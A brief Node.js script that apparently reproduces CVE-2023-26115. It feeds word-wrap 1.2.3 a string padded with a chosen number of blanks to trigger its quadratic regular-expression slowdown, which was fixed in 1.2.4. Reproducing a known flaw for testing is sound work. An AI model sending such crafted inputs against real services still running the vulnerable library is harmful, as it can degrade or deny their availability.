// Wraps a text with trailing blanks by word-wrap 1.2.3 (node_modules beside this file),
// whose regular expression is quadratic in them: CVE-2023-26115, mended in 1.2.4.
const wrap = require("word-wrap");

function wrapped(n) {
  return wrap("a" + " ".repeat(n) + "b", { width: n + 10, trim: true }); // GROWS
}

console.log(wrapped(Number(process.argv[2])).length);
